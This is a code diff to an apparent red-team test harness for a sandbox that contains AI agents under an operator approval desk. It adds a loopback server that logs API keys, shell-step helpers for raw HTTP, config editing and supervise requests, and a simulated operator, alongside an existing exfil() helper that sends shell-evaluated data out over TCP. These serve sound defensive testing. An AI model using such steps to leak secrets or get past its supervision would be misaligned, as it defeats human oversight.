@@ -13,6 +13,7 @@ import {
   type Stats,
   writeFileSync,
 } from 'node:fs';
+import { createServer as createHttpServer } from 'node:http';
 import { createServer, type Server, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -39,6 +40,13 @@ import {
   type RunRecord,
 } from '@bb/provenance';
 import { BbDatabase } from '@bb/state';
+import {
+  defaultPolicy,
+  type Policy,
+  type RequestView,
+  SuperviseDesk,
+  SuperviseStore,
+} from '@bb/supervise';
 import { BASE_IMAGE } from '@bb/tooling/docker';
 
 export const TOKEN = 'bb-claude-redteam-token-5f3a9c2e71d4';
@@ -167,6 +175,22 @@ export class RedTeam {
     this.db?.close();
     rmSync(this.home, { recursive: true, force: true });
     rmSync(this.hostDir, { recursive: true, force: true });
+  }
+
+  /**
+   * The operator's desk over this bench's state, as \`bb supervise\` makes it: its
+   * remediator applies approvals to the bottles, with \`env\` for the secrets offered.
+   */
+  desk(policy: Policy = defaultPolicy(), env: Record<string, string> = {}): SuperviseDesk {
+    return new SuperviseDesk({
+      store: new SuperviseStore(this.db),
+      bottles: headless.supervisedBottles(this.env),
+      policy,
+      remediator: headless.bottleRemediator({
+        backend: this.backend,
+        env: { ...this.env, ...env },
+      }),
+    });
   }
 
   /** Write a bottle manifest. */
@@ -333,4 +357,69 @@ export class RedTeam {
 /** A shell step that sends `what` (evaluated in sh) to the listener over TCP with node. */
 export function exfil(port: number, what: string): string {
   return `node -e "const s=require('net').connect(${port},'127.0.0.1');s.on('error',()=>{});s.end(process.argv[1])" "${what}"`;
+}
+
+/**
+ * An HTTP server on loopback standing for a service a bottle's proxies may reach,
+ * recording what it heard (each request's path and its `x-api-key`).
+ */
+export async function startUpstream(): Promise<{
+  port: number;
+  seen: Array<{ url: string; key: unknown }>;
+  close(): void;
+}> {
+  const seen: Array<{ url: string; key: unknown }> = [];
+  const server = createHttpServer((req, res) => {
+    seen.push({ url: req.url ?? '', key: req.headers['x-api-key'] });
+    res.end(`upstream answered ${req.url}\n`);
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return {
+    port: (server.address() as { port: number }).port,
+    seen,
+    close: () => server.close(),
+  };
+}
+
+/** A shell step: a raw HTTP request (`~` for CRLF) through a bottle port, its answer written to /workspace/<out>. */
+export const rawHttp = (port: number, head: string, out: string, append = false) =>
+  `node -e "const s=require('net').connect(${port},'127.0.0.1',()=>s.write(process.argv[1].replace(/~/g,'\\r\\n')));let b='';s.on('data',d=>b+=d);s.on('close',()=>require('fs').${append ? 'appendFileSync' : 'writeFileSync'}('/workspace/${out}',b${append ? "+'\\n=====\\n'" : ''}));s.on('error',e=>require('fs').${append ? 'appendFileSync' : 'writeFileSync'}('/workspace/${out}','error '+e.message${append ? "+'\\n=====\\n'" : ''}))" "${head}"`;
+
+/** A shell step: a current-config JSON file edited with a node expression on `c`, into /tmp/<out>. */
+export const editConfig = (file: string, expr: string, out: string) =>
+  `node -e "const fs=require('fs');const c=JSON.parse(fs.readFileSync('/etc/bot-bottle/current-config/${file}','utf8'));${expr};fs.writeFileSync('/tmp/${out}',JSON.stringify(c,null,2))"`;
+
+/** A shell step: `bb-supervise ARGS`, its answer in /workspace/<out> and its exit code in <out>.code. */
+export const askSupervise = (args: string, out: string) =>
+  `node /opt/bb/bb-supervise.mjs ${args} > /workspace/${out}; echo $? > /workspace/${out}.code`;
+
+/**
+ * A busy operator: looks for pending supervise requests every 100 ms (a desk made
+ * anew each time, as `bb supervise` is run anew) and hands each to `act`, until it
+ * has acted `count` times, `stop()` says so, or two minutes pass.
+ */
+export function busyOperator(
+  desk: () => SuperviseDesk,
+  act: (d: SuperviseDesk, r: RequestView) => Promise<void>,
+  count = 1,
+): { done: Promise<number>; stop(): void } {
+  let over = false;
+  const done = (async () => {
+    let acted = 0;
+    for (let i = 0; i < 1200 && !over && acted < count; i++) {
+      const d = desk();
+      const [r] = d.list({ status: 'pending' });
+      if (r) {
+        await act(d, r);
+        acted++;
+      } else await new Promise((res) => setTimeout(res, 100));
+    }
+    return acted;
+  })();
+  return {
+    done,
+    stop: () => {
+      over = true;
+    },
+  };
 }
